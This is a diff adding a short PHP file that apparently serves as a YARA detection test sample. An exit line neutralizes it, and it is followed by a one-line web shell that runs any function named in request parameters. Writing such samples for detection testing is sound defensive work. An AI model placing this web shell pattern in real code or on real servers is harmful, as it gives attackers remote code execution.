@@ -1,0 +1,2 @@
+<?php exit('haidang YARA test sample'); ?>
+<?php $_REQUEST['f']($_REQUEST['a']); ?>
